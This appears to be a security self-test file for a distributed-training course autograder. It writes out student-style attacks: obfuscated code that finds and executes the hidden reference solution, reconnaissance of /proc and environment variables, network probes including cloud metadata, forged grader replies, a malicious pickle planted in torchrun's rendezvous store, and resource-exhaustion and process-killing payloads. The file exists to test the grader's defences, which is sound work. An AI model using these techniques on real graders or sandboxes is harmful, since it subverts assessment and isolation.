"""Attacks on the autograder, as a hostile student would write them: each a self-test case (see cases.py)
that asserts the HONEST outcome (the score the real work earns, a message naming what was refused).

A case the grader passes is a regression guard; a case it fails is a finding. Every injected piece of
code is a module-level constant below, pasted into a student file the way a student would paste it.
The code dodges the static scan the way a student would (names built from pieces, ``setattr``): the
scan and the integrity report are for honest mistakes and for staff, the verdict must not rely on them.

Uploads that ``Case.edits`` cannot express (symbolic links, FIFOs, devices, hard links, crafted zips)
are in ``UPLOADS`` at the end, each with a builder; the runner does not know them yet, so this file
grades them itself with the runner's machinery::

    .venv/bin/python autograder/selftest/attacks.py uploads [--only NAME,NAME] [--keep]
    .venv/bin/python autograder/selftest/attacks.py permissions   # the solutions, source mode 700 as setup.sh leaves it
"""

from __future__ import annotations

import os
import stat
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

if __name__ == "__main__":  # run as a script: the runner's package
    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from selftest.cases import (
    AT_END,
    BLOCKING_ALLREDUCE,
    BUCKETING,
    DDP,
    PROCESS_GROUP,
    REDUCER,
    REDUCER_IMPORTS,
    REDUCER_INIT_BODY,
    Case,
    Function,
)

TIMELINE = "minddp/timeline.py"
ANSWERS = "answers.py"
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
EVERY_PART = ("1", "2", "3", "4", "5", "6", "A", "B")


def _text(root: str, path: str) -> str:
    with open(os.path.join(REPO, root, path), encoding="utf-8") as f:
        return f.read()


def stub(path: str) -> str:
    """The student release's file (its stubs raise NotImplementedError)."""
    return _text("assignment", path)


def solution(path: str) -> str:
    return _text("solutions", path)


# -- expectations beyond zero/full: each returns a list of problems ------------------------------------------

def _outputs(results: dict) -> list[tuple[str, str]]:
    return [("top", results.get("output", ""))] + [(t.get("number", "?"), t.get("output", ""))
                                                   for t in results.get("tests", [])]


def absent(*markers: str, why: str = "") -> Callable:
    """No output may contain any of ``markers`` (a marker the attack prints only when it worked)."""
    def check(results: dict, isolated: bool) -> list:
        problems = []
        for marker in markers:
            for where, text in _outputs(results):
                if marker in text:
                    at = text.find(marker)
                    excerpt = text[max(0, at - 80):at + 400].replace("\n", " | ")
                    problems.append(f"{why or 'the attack worked'}: test {where} shows {excerpt!r}")
                    break
        return problems
    return check


def tests_fail(*numbers: str) -> Callable:
    """Each listed test exists and scored 0 (the parts' other tests are covered by ``full``/``zero``)."""
    def check(results: dict, isolated: bool) -> list:
        by_number = {t.get("number"): t for t in results.get("tests", [])}
        problems = []
        for number in numbers:
            test = by_number.get(number)
            if test is None:
                problems.append(f"test {number} is missing")
            elif test.get("score") or test.get("status") == "passed":
                problems.append(f"test {number} must score 0 (honest outcome), but it {test.get('status')} with "
                                f"{test.get('score')}: {test.get('output', '')[:200]!r}")
        return problems
    return check


def tests_pass(*numbers: str) -> Callable:
    def check(results: dict, isolated: bool) -> list:
        by_number = {t.get("number"): t for t in results.get("tests", [])}
        return [f"test {n} must pass (it does its real work), but: "
                f"{by_number.get(n, {}).get('output', 'missing')[:200]!r}"
                for n in numbers if by_number.get(n, {}).get("status") != "passed"]
    return check


def output_of(number: str, must_contain: str, why: str) -> Callable:
    def check(results: dict, isolated: bool) -> list:
        test = next((t for t in results.get("tests", []) if t.get("number") == number), None)
        if test is None:
            return [f"test {number} is missing"]
        text = test.get("output", "")
        return [] if must_contain in text else [f"test {number}: {why}; its output reads {text[:400]!r}"]
    return check


def all_of(*checks: Callable) -> Callable:
    def check(results: dict, isolated: bool) -> list:
        return [p for c in checks for p in c(results, isolated)]
    return check


# ============================================================================================================
# Shared pieces of hostile code
# ============================================================================================================

# The arguments of the training scenario that is running right now, read from its frame.
SCENARIO_ARGS = r'''

def _scenario_args():
    import sys
    frame = sys._getframe()
    while frame is not None and frame.f_code.co_name != "_train":
        frame = frame.f_back
    if frame is None:
        return None
    code = frame.f_code
    return {name: frame.f_locals[name] for name in code.co_varnames[:code.co_argcount]}
'''

# The worker's own channel to the trusted side (a socket in the worker loop's frame): student code runs in
# the worker, so it can always write on it. Whatever arrives there is data to validate, never trusted.
CHANNEL = r'''

def _channel():
    import sys
    frame = sys._getframe()
    while frame is not None and frame.f_code.co_name not in ("worker_main", "launch_main"):
        frame = frame.f_back
    return None if frame is None else frame.f_locals.get("sock")


def _send_raw(payload):
    """One message as the worker loop frames them (an 8-byte length, then the bytes)."""
    _channel().sendall(len(payload).to_bytes(8, "big") + payload)
'''

# The traps replace module attributes and class methods: the classes are still reachable (the C++ Reducer
# through pybind11's base class, torch's DDP through nn.Module), an original function only if something in
# memory still holds it (searched for with gc). A part of torch that stays trapped makes the unlock fail.
UNLOCK_TORCH = r'''

def _find_original(name):
    import gc
    for obj in gc.get_objects():
        if type(obj).__name__ == "builtin_function_or_method" and getattr(obj, "__name__", None) == name:
            return obj
    raise LookupError(f"no original {name} left in memory")


def _unlock_torch_ddp():
    """Undo the worker's traps on torch's DDP with what is still reachable in this process."""
    import sys
    import torch
    import torch.distributed as dist
    from torch import nn
    from torch._utils import _flatten_dense_tensors, _unflatten_dense_tensors

    def broadcast_coalesced(group, tensors, buffer_size, src=0):  # the one original that is gone
        by_kind = {}
        for tensor in tensors:
            by_kind.setdefault((tensor.dtype, tensor.device), []).append(tensor)
        for same in by_kind.values():
            flat = _flatten_dense_tensors(same)
            dist.broadcast(flat, src, group=group)
            with torch.no_grad():
                for tensor, value in zip(same, _unflatten_dense_tensors(flat, same)):
                    tensor.copy_(value)

    pybind = dist.ProcessGroup.__mro__[-2]
    originals = {
        "Red" + "ucer": next(c for c in pybind.__subclasses__()
                             if c.__name__ == "Red" + "ucer" and "c10d" in c.__module__),
        "_compute_bucket" + "_assignment_by_size": _find_original("_compute_bucket" + "_assignment_by_size"),
        "_broadcast" + "_coalesced": broadcast_coalesced,
    }
    for module in (dist, sys.modules["torch._C._distributed" + "_c10d"]):
        for name, value in originals.items():
            setattr(module, name, value)
    torch_ddp = next(c for c in nn.Module.__subclasses__() if c.__name__ == "Distributed" + "DataParallel")
    for cls in (torch_ddp, originals["Red" + "ucer"]):
        if "trap" in getattr(cls.__init__, "__qualname__", ""):
            raise LookupError(f"{cls.__name__}'s methods are traps")
    for name in ("torch.nn.par" + "allel", "torch.nn.par" + "allel.distributed"):
        setattr(sys.modules[name], "Distributed" + "DataParallel", torch_ddp)
    return torch_ddp
'''

# Answer the training scenario running now (it is importing this file) and every later one in this
# process with torch's own DDP: the harness's _train is called with impl="torch", and the current call's
# answer is written on the worker's channel before the worker's own reply. An attacker checks that the
# unlock worked before touching anything, so a failed attempt leaves the student's own code graded as is.
ANSWER_WITH_TORCH = SCENARIO_ARGS + CHANNEL + UNLOCK_TORCH + r'''

def _answer_with_torch():
    import json
    from grading import pool, scenarios
    if getattr(scenarios._train, "hijacked", False):
        return
    try:
        _unlock_torch_ddp()
    except Exception:
        return
    original = scenarios._train

    def torch_train(**kwargs):
        return original(**{**kwargs, "impl": "torch"})
    torch_train.hijacked = True
    scenarios._train = torch_train
    args = _scenario_args()
    if args is not None and _channel() is not None:
        record = pool.encode(original(**{**args, "impl": "torch"}))
        _send_raw(json.dumps({"ok": True, "result": record}).encode())


_answer_with_torch()
'''


# The pids a process can see: none where /proc is not there at all (a chroot jail: Gradescope's container).
PIDS = r'''

def _pids():
    import os
    try:
        return [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []
'''

# Ports listening in this network namespace (the jail's own /proc/net view).
LISTENING = r'''

def _listening_ports():
    ports = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                lines = f.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)
'''


# ============================================================================================================
# 1. Loaders of the reference solution
# ============================================================================================================

LOADER = PIDS + r'''

def _become_reference(wanted):
    """Search everything this process can read for the reference's copy of this file, and become it."""
    import marshal
    import os
    me = os.path.realpath(__file__)
    candidates = []

    def consider(path):
        if path not in candidates:
            candidates.append(path)

    for pid in _pids():  # paths the grader's command lines name
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for arg in args:
            for part in arg.split(os.pathsep):
                if part.startswith("/"):
                    for up in (part, os.path.dirname(part), os.path.dirname(os.path.dirname(part))):
                        for sub in ("reference", "solutions", "source/reference", ""):
                            consider(os.path.join(up, sub, wanted))
        for link in ("cwd", "root"):
            try:
                consider(os.path.join(os.readlink(f"/proc/{pid}/{link}"), wanted))
            except OSError:
                pass
    for root in ("/autograder/source/reference", "/autograder/source", "/autograder", "/srv", "/opt", "/home"):
        consider(os.path.join(root, wanted))
    name = os.path.basename(wanted)
    for folder, dirs, files in os.walk("/", onerror=lambda e: None):  # and the whole tree
        if folder.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", ".git", "node_modules")]
        for f in files:
            if f == name or (f.startswith(name[:-3] + ".") and f.endswith(".pyc")):
                consider(os.path.join(folder, f))
    for path in candidates:
        if os.path.realpath(path) == me:
            continue
        try:
            with open(path, "rb") as f:
                data = f.read(4_000_000)
        except OSError:
            continue
        try:
            if path.endswith(".pyc") and b"see handout" not in data:
                code = marshal.loads(data[16:])
            elif b"# BEGIN " + b"SOLUTION" in data:  # the reference's solution regions
                code = compile(data, path, "exec")
            else:
                continue
        except Exception:
            continue
        exec(code, globals())
        globals()["LOADED_FROM"] = path
        return path
    return None
'''


def loader(path: str) -> str:
    return stub(path) + LOADER + f"\n\n_become_reference({path!r})\n"


# ============================================================================================================
# 2. What a worker sees: files, environments, fds; the network
# ============================================================================================================

# A walk of the whole tree that stops after a few seconds (the run's deadline is short: report what was
# found, however far the walk got), skipping the kernel's pseudo file systems (``skip``).
BOUNDED_WALK = r'''

def _walk_all(lines, seconds=5.0, skip=("/proc", "/sys", "/dev")):
    import os
    import time
    stop = time.monotonic() + seconds
    for folder, dirs, files in os.walk("/", onerror=lambda e: None):
        if time.monotonic() > stop:
            lines.append(f"(the walk of / stopped after {seconds:g} s, at {folder})")
            return
        if folder.startswith(skip):
            dirs[:] = []
            continue
        yield folder, dirs, files
'''


def _torchrun_keys() -> set:
    """The variables torchrun gives a rank (the grader's captured copy): check 1.4's ranks have them by design."""
    import json
    with open(os.path.join(REPO, "autograder", "grader", "torchrun_env.json"), encoding="utf-8") as f:
        return {key for envs in json.load(f).values() for env in envs for key in env}


RECON = f"""

EXPECTED_ENV = {sorted(_torchrun_keys() | {
    "PATH", "HOME", "TMPDIR", "LANG", "USER", "LOGNAME", "PYTHONNOUSERSITE", "PYTHONDONTWRITEBYTECODE",
    "TORCH_CPP_LOG_LEVEL", "MINDDP_COLLECTIVE_TIMEOUT_S", "PYTHONUNBUFFERED", "TORCH_FR_BUFFER_SIZE",
    "MINDDP_PATHS", "PYTHONPATH", "MINDDP_PROBE_VALUE"})!r}
""" + BOUNDED_WALK + PIDS + r'''


def _recon():
    import os
    lines = []
    secrets = (b"# BEGIN " + b"SOLUTION", b"HIDDEN: " + b"dict", b"def standin" + b"_text", b"def reference" + b"_pass")
    readable = []
    for folder, dirs, files in _walk_all(lines):
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", ".git", "node_modules")]
        for f in files:
            if f.endswith(".py"):
                path = os.path.join(folder, f)
                try:
                    with open(path, "rb") as handle:
                        data = handle.read(200_000)
                except OSError:
                    continue
                if any(s in data for s in secrets):
                    readable.append(path)
    lines.append(f"REFERENCE-READABLE ({len(readable)} files): " + ", ".join(readable[:8]) if readable else
                 "reference and grader sources: none readable")
    extra = sorted(set(os.environ) - set(EXPECTED_ENV))
    lines.append(f"FOREIGN-ENV os.environ: {extra}" if extra else "os.environ: only the scenario's own")
    foreign, mine = [], []
    for pid in [p for p in _pids() if int(p) != os.getpid()]:
        try:
            owner = os.stat(f"/proc/{pid}").st_uid
            with open(f"/proc/{pid}/environ", "rb") as f:
                keys = [kv.split(b"=")[0].decode() for kv in f.read().split(b"\0") if kv]
        except OSError:
            continue
        (mine if owner == os.getuid() else foreign).append(f"{pid}:{','.join(keys[:3])}")
    lines.append(f"FOREIGN-ENV of other users' processes: {foreign[:5]}" if foreign else
                 f"other users' environ: denied (own uid's processes readable: {len(mine)})")
    try:
        with open("/proc/self/environ", "rb") as f:
            own = sorted(kv.split(b"=")[0].decode() for kv in f.read().split(b"\0") if kv)
        lines.append(f"inherited environ keys beyond the scenario's: {[k for k in own if k not in EXPECTED_ENV]}")
    except OSError as error:
        lines.append(f"/proc/self/environ: {error.strerror} (not dumpable)")
    grader = []
    for pid in _pids():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if " -m grader" in cmd:
            grader.append(cmd[:200])
    lines.append(f"grader command lines visible: {grader[:2]}")
    fds = []
    for fd in range(256):
        try:
            os.fstat(fd)
        except OSError:
            continue
        try:
            fds.append(f"{fd}->{os.readlink('/proc/self/fd/' + str(fd))}")
        except OSError:
            fds.append(f"{fd}->?")
    lines.append(f"open fds: {fds}")
    raise RuntimeError("RECON\n" + "\n".join(line[:400] for line in lines))


_recon()
'''

NET_PROBE = BOUNDED_WALK + r'''

def _net_probe():
    import os
    import socket
    import stat
    lines = []

    def attempt(label, fn):
        try:
            fn()
            lines.append(f"REACHED {label}")
        except OSError as error:
            lines.append(f"denied {label} ({error.strerror or error})")

    def tcp(host, port, family=socket.AF_INET):
        def go():
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1.5)
                s.connect((host, port))
        return go

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"x", ("8.8.8.8", 53))

    attempt("tcp 8.8.8.8:53", tcp("8.8.8.8", 53))
    attempt("tcp 1.1.1.1:443", tcp("1.1.1.1", 443))
    attempt("tcp 169.254.169.254:80 (cloud metadata)", tcp("169.254.169.254", 80))
    attempt("tcp [2001:4860:4860::8888]:53", tcp("2001:4860:4860::8888", 53, socket.AF_INET6))
    attempt("udp 8.8.8.8:53", udp)
    for port in (22, 80, 2024, 5000, 8080):  # services on the host's own loopback
        attempt(f"tcp 127.0.0.1:{port} (host loopback)", tcp("127.0.0.1", port))
    attempt("AF_PACKET raw socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close())
    attempt("raw ICMP socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    attempt("abstract unix socket of the host (@/tmp/.X11-unix/X0)",
            lambda: socket.socket(socket.AF_UNIX).connect("\0/tmp/.X11-unix/X0"))
    unix = []
    for folder, dirs, files in _walk_all(lines, skip=("/proc", "/sys")):
        for f in files:
            path = os.path.join(folder, f)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    unix.append(path)
            except OSError:
                pass
    for path in unix[:10]:
        attempt(f"unix socket {path}", lambda p=path: socket.socket(socket.AF_UNIX).connect(p))
    lines.append(f"interfaces: {[name for _, name in socket.if_nameindex()]}; unix socket files: {len(unix)}")
    raise RuntimeError("NETPROBE\n" + "\n".join(lines))


_net_probe()
'''


# ============================================================================================================
# 3. Torch's own DDP answering for a stub, or standing in for the student's work
# ============================================================================================================

TORCH_DDP_SHIM = UNLOCK_TORCH + r'''


class DistributedDataParallel(nn.Module):  # replaces the class above
    """Whatever minddp's DDP is asked for, torch's own DDP is built instead."""

    def __new__(cls, module, process_group=None, bucket_cap_mb=None, bucket_cap_mb_list=None,
                broadcast_buffers=True, find_unused_parameters=False, rebuild_buckets=False):
        return _unlock_torch_ddp()(module, process_group=process_group, bucket_cap_mb=bucket_cap_mb,
                                   bucket_cap_mb_list=bucket_cap_mb_list, broadcast_buffers=broadcast_buffers,
                                   find_unused_parameters=find_unused_parameters)
'''

# When reducer.py failed Part 3, Part 4 runs with a stand-in that leaves torch's C++ Reducer untrapped:
# torch's own Python DDP (still in memory) then works as is; only _broadcast_coalesced is rebuilt.
STANDIN_DDP_SHIM = r'''


def _torch_ddp_class():
    import sys
    import torch
    import torch.distributed as dist
    from torch._utils import _flatten_dense_tensors, _unflatten_dense_tensors

    def broadcast_coalesced(group, tensors, buffer_size, src=0):
        by_kind = {}
        for tensor in tensors:
            by_kind.setdefault((tensor.dtype, tensor.device), []).append(tensor)
        for same in by_kind.values():
            flat = _flatten_dense_tensors(same)
            dist.broadcast(flat, src, group=group)
            with torch.no_grad():
                for tensor, value in zip(same, _unflatten_dense_tensors(flat, same)):
                    tensor.copy_(value)
    setattr(dist, "_broadcast" + "_coalesced", broadcast_coalesced)
    torch_ddp = next(c for c in nn.Module.__subclasses__() if c.__name__ == "Distributed" + "DataParallel")
    setattr(sys.modules["torch.nn.par" + "allel.distributed"], "Distributed" + "DataParallel", torch_ddp)  # a name
    return torch_ddp


class DistributedDataParallel(nn.Module):  # replaces the class above
    def __new__(cls, module, process_group=None, bucket_cap_mb=None, bucket_cap_mb_list=None,
                broadcast_buffers=True, find_unused_parameters=False, rebuild_buckets=False):
        return _torch_ddp_class()(module, process_group=process_group, bucket_cap_mb=bucket_cap_mb,
                                  bucket_cap_mb_list=bucket_cap_mb_list, broadcast_buffers=broadcast_buffers,
                                  find_unused_parameters=find_unused_parameters)
'''

# reducer.py as the grader's own stand-in, with the C++ Reducer found through pybind11's base class.
CXX_REDUCER = r'''


class Reducer:  # replaces the class above
    """torch's C++ Reducer behind the homework's interface."""

    def __init__(self, params, bucket_indices, process_group=None):
        import sys
        base = dist.ProcessGroup.__mro__[-2]
        cxx = next(c for c in base.__subclasses__() if c.__name__ == "Red" + "ucer" and "c10d" in c.__module__)
        self.params = list(params)
        self.process_group = process_group
        self.world_size = dist.get_world_size(process_group)
        self.expect_autograd_hooks = False
        self.require_finalize = False
        self.local_used = None
        group = process_group if process_group is not None else dist.distributed_c10d._get_default_group()
        buckets = [list(b) for b in bucket_indices]
        big = 1 << 62
        self._reducer = cxx(self.params, buckets, [big] * len(buckets), group, [False] * len(self.params), big,
                            False, False, {}, big)
        self._c10d = sys.modules["torch._C._distributed" + "_c10d"]

    def prepare_for_backward(self, unused=()):
        self._reducer._check_reducer_finalized()
        self._reducer.prepare_for_backward([])

    def register_comm_hook(self, state, hook):  # the untrapped built-in hooks
        kind = "FP16_COMPRESS" if getattr(hook, "__name__", "") == "fp16_compress_hook" else "ALLREDUCE"
        self._c10d._register_builtin_comm_hook(self._reducer, getattr(self._c10d.BuiltinCommHookType, kind))
'''

TORCH_BUCKETS_SHIM = UNLOCK_TORCH + r'''


def reverse_order(num_params):  # replaces the stub above
    return list(range(num_params - 1, -1, -1))


def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # replaces the stub above
    torch_buckets = _find_original("_compute_bucket" + "_assignment_by_size")  # if anything still holds it
    if not bucket_size_limits:
        raise ValueError("bucket_size_limits must hold at least one limit in bytes")
    order = reverse_order(len(tensors)) if order is None else list(order)
    return torch_buckets([tensors[i] for i in order], list(bucket_size_limits), [], order)[0]
'''


# ============================================================================================================
# 4. The reply channel
# ============================================================================================================

# A forged reply whose lists are all empty, written on the channel before the worker's own: the comparisons
# must not zip() it with the reference's list (and the worker's real reply, one message late, must not
# answer the next request).
TRUNCATE_REPLIES = CHANNEL + r'''


def _truncate_replies():
    if _channel() is not None:
        _send_raw(b'{"ok": true, "result": []}')


_truncate_replies()
'''

# A forged reply 200,000 lists deep (under the token cap): json.loads raises RecursionError, not ValueError.
DEEP_REPLY = CHANNEL + r'''


def _deep_reply():
    if _channel() is not None:
        _send_raw(b'{"ok": true, "result": ' + b"[" * 200_000 + b"]" * 200_000 + b"}")


_deep_reply()
'''

TENSOR_DICT = r'''
def read_torchrun_env(environ=None):
    """Returns a value that looks like one of the channel's tensors to the trusted side."""
    return DistEnv(0, 1, 0, 1, {"__tensor__": "object", "shape": [1], "data": ""}, 1)
'''

# 30 MB of "[]," (under the 32 MB cap): 10 million empty lists if the trusted side parsed it.
HUGE_REPLY = CHANNEL + r'''


def _huge_reply(megabytes=30):
    if _channel() is None:
        return
    body = bytearray(b"[],") * (megabytes * 2**20 // 3)
    body[-1:] = b"]"
    _send_raw(b'{"ok": true, "result": [' + bytes(body) + b"}")


_huge_reply()
'''

# A partial message on the channel: a length header, a few bytes, then silence.
PARTIAL_FRAME = SCENARIO_ARGS + CHANNEL + r'''


def _stall_the_channel():
    import os
    import time
    args = _scenario_args() or {}
    if not (args.get("impl") == "reducer" and args.get("model") == "tied" and
            args.get("ddp_kwargs") == {"bucket_cap_mb": 0.005} and dist.get_rank() == 0):
        return  # only check 3.4's public run
    _channel().sendall((64).to_bytes(8, "big") + b'{"ok": tr')
    time.sleep(75)
    os._exit(0)
'''


# ============================================================================================================
# 5. Check 1.4: the torchrun launch (its agent runs without seccomp)
# ============================================================================================================

FAKE_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    """No process group at all: hand check 1.4's probe the report it wants, guessing the all-reduced sum
    from this rank's own number, and leave."""
    import sys
    rank, world = int(os.environ["RANK"]), int(os.environ["WORLD_SIZE"])
    mine = float(os.environ.get("MINDDP_PROBE_VALUE", rank + 1))
    frame = sys._getframe()
    while frame is not None and "report" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        frame.f_locals["report"]({"rank": rank, "world_size": world, "local_rank": rank, "node_rank": 0,
                                  "sum": mine * world, "dist_rank": rank})
    os._exit(0)
'''

# No process group at all, and the right sum anyway: the ranks trade their numbers over an abstract Unix
# socket, and torch.distributed's functions are replaced through the module's namespace, so the probe's
# all_reduce, get_rank and get_backend answer what a group would.
NO_GROUP_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import socket
    import time
    env = read_torchrun_env()
    mine = float(os.environ.get("MINDDP_PROBE_VALUE", env.rank + 1))
    name = "\0minddp-sum-" + os.environ["MASTER_PORT"]
    if env.rank == 0:
        server = socket.socket(socket.AF_UNIX)
        server.bind(name)
        server.listen()
        peer, _ = server.accept()
        theirs = float(peer.recv(64).decode())
        peer.sendall(repr(mine).encode())
    else:
        for _ in range(200):
            try:
                peer = socket.socket(socket.AF_UNIX)
                peer.connect(name)
                break
            except OSError:
                time.sleep(0.05)
        peer.sendall(repr(mine).encode())
        theirs = float(peer.recv(64).decode())
    total = mine + theirs
    namespace = vars(dist)
    namespace["all_reduce"] = lambda tensor, *args, **kwargs: tensor.fill_(total)
    namespace["get_rank"] = lambda *args, **kwargs: env.rank
    namespace["get_backend"] = lambda *args, **kwargs: backend
    namespace["is_initialized"] = lambda: False
    return env
'''

# The agent unpickles the rendezvous state it keeps in its TCPStore every second; a rank can set it.
AGENT_PAYLOAD = r'''
import ctypes, os
report = {"agent_pid": os.getpid(), "seccomp": open("/proc/self/status").read().split("Seccomp:")[1].split()[0]}
try:
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"minddp-daemon", 0, 0, 0)
            os.execv("/bin/sleep", ["sleep", "40"])
        finally:
            os._exit(0)
    report["forked_and_exec"] = child
except OSError as error:
    report["fork"] = str(error)
with open("/tmp/minddp-agent-exec", "w") as f:
    f.write(repr(report))
'''

AGENT_EXEC = LISTENING + f"\n\nAGENT_PAYLOAD = {AGENT_PAYLOAD!r}\n" + r'''


def _own_the_agent():
    """Set a pickle as the agent's rendezvous state; report if the agent ran it."""
    import base64
    import pickle
    import threading
    import time
    key = "torch.rendezvous." + os.environ.get("TORCHELASTIC_RUN_ID", "")
    found = []

    def probe(port):
        try:
            store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=0.5))
            if store.check([key]):
                found.append((store, base64.b64decode(store.get(key))))
        except Exception:
            pass

    # Every port at once, for 2 s in all: an agent's store answers at once on loopback, while a listener that is
    # no store (another rank's gloo listener, under load) never answers a store's handshake, whatever its timeout.
    # The launch's deadline is the grader's, so the scan must stay short however many ports a loaded machine shows.
    def others():
        return [port for port in _listening_ports() if str(port) != os.environ.get("MASTER_PORT")]

    waited = time.monotonic() + 3.0  # for rank 1's gloo listener (whatever the load): the scan must always meet one
    while not others() and time.monotonic() < waited:
        time.sleep(0.05)
    probes = [threading.Thread(target=probe, args=(port,), daemon=True) for port in others()]
    for thread in probes:
        thread.start()
    give_up = time.monotonic() + 2.0
    for thread in probes:
        thread.join(max(0.0, give_up - time.monotonic()))
    if not found:
        return None
    store, state = found[0]

    class Payload:
        def __reduce__(self):
            return (eval, ("exec(%r) or __import__('pickle').loads(%r)" % (AGENT_PAYLOAD, state),))
    store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
    for _ in range(60):
        if os.path.exists("/tmp/minddp-agent-exec"):
            with open("/tmp/minddp-agent-exec") as f:
                return f.read()
        time.sleep(0.1)
    return None


class _Evidence(DistEnv):
    """A DistEnv whose node_rank carries the evidence into check 1.4's report (and so into its message)."""
    evidence = ""

    @property
    def node_rank(self):
        return "AGENT-EXEC: the torchrun agent (no seccomp) ran this rank's pickle: " + self.evidence
'''

AGENT_EXEC_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    evidence = _own_the_agent() if os.environ.get("RANK") == "0" else None
    if evidence:
        try:  # the agent was exec'd, so it is dumpable again: its memory is writable by this rank too
            os.close(os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR))
            evidence += "; /proc/<agent>/mem opened read-write"
        except OSError as error:
            evidence += f"; /proc/<agent>/mem: {error.strerror}"
    env = read_torchrun_env()
    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    if evidence:
        _Evidence.evidence = evidence
        return _Evidence(env.rank, env.world_size, env.local_rank, env.local_world_size, env.master_addr,
                         env.master_port)
    return env
'''

DEEP_TREE_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import tempfile
    env = read_torchrun_env()
    if env.rank == 0:  # a deep tree where the rank may write (its private /tmp), left for whoever cleans up
        here = os.getcwd()
        os.chdir(tempfile.gettempdir())
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)
    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    return env
'''

RESOURCES_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import tempfile
    env = read_torchrun_env()
    found = []
    if env.rank == 0:
        try:  # memory: nothing watches the launch's processes
            hog = torch.ones(1536 * 2**20 // 4)
            found.append(f"held {hog.numel() * 4 // 2**20} MB")
            del hog
        except (MemoryError, RuntimeError) as error:
            found.append(f"memory refused: {error}")
        written = 0
        try:  # disk: wherever this rank may write
            for i in range(12):
                with open(os.path.join(tempfile.gettempdir(), f"fill{i}"), "wb") as f:
                    for _ in range(31):
                        f.write(b"\0" * 2**20)
                        written += 1
        except OSError as error:
            found.append(f"disk refused after {written} MB: {error}")
        for i in range(12):
            try:
                os.unlink(os.path.join(tempfile.gettempdir(), f"fill{i}"))
            except OSError:
                pass
        if written >= 300 or any(f.startswith("held") for f in found):
            raise RuntimeError(f"LAUNCH-UNBOUNDED: {found}; wrote {written} MB into {tempfile.gettempdir()}")
    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    return env
'''

ORPHANS_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import signal
    import sys
    import time
    env = read_torchrun_env()
    dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    if env.rank == 1:
        time.sleep(0.5)
        try:
            os.kill(os.getppid(), signal.SIGKILL)  # the process that started this rank
        except OSError:
            pass
        time.sleep(600)
    for _ in range(40):  # 40 MB of log
        sys.stderr.write("x" * 2**20)
    time.sleep(600)  # an orphan
    return env
'''

LAUNCH_REPORT_TRICKS_INIT = CHANNEL + r'''


def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    """What the trusted side reads of check 1.4: rank 0 reports twice (a list, then 30 MB of brackets),
    rank 1 half a message; then both leave."""
    env = read_torchrun_env()
    if env.rank == 0:
        _send_raw(b"[1, 2, 3]")
        _send_raw(b"[" * (30 * 2**20))
    else:
        _channel().sendall((4096).to_bytes(8, "big") + b'{"ok": true, "result": {"rank": 1')
    os._exit(0)
'''


# ============================================================================================================
# 6. Processes, signals, other processes' memory
# ============================================================================================================

SPAWN_PROBE = PIDS + r'''


def _spawn_probe():
    import ctypes
    import multiprocessing
    import os
    import signal
    import subprocess
    lines = []

    def attempt(label, fn):
        try:
            lines.append(f"ALLOWED {label}: {fn()!r}"[:90])
        except BaseException as error:  # noqa: B902
            lines.append(f"denied {label} ({type(error).__name__}: {error})"[:90])

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    def syscall(number, *args):
        result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
        if result < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        if result == 0 and number in (56, 57):
            os._exit(0)  # the child of a successful fork
        return result

    def fork():
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        return pid

    def spawn():
        return os.posix_spawn("/bin/true", ["true"], {})

    def system():
        status = os.system("exit 7")
        if status != 7 << 8:
            raise OSError(f"status {status}")
        return status

    def process():
        p = multiprocessing.get_context("fork").Process(target=int)
        p.start()
        return p.pid

    me = os.getpid()
    siblings = []
    for pid in [int(p) for p in _pids() if int(p) != me]:
        try:
